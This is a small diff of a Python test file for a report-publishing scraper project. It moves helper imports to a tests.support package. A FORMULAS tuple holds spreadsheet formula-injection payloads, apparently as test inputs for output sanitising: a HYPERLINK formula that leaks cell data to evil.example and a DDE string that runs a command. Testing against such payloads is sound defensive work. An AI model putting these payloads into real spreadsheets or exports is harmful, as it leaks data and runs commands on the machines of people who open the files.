@@ -10,8 +10,8 @@ from pathlib import Path
 
 from reports.site import publish
 from scrapers.store import Store
-from tests.conftest import write_config
-from tests.test_site_data import NOW, T1, archive, fetch, make_settings, record, state
+from tests.support.config import write_config
+from tests.support.site_data import NOW, T1, archive, fetch, make_settings, record, state
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
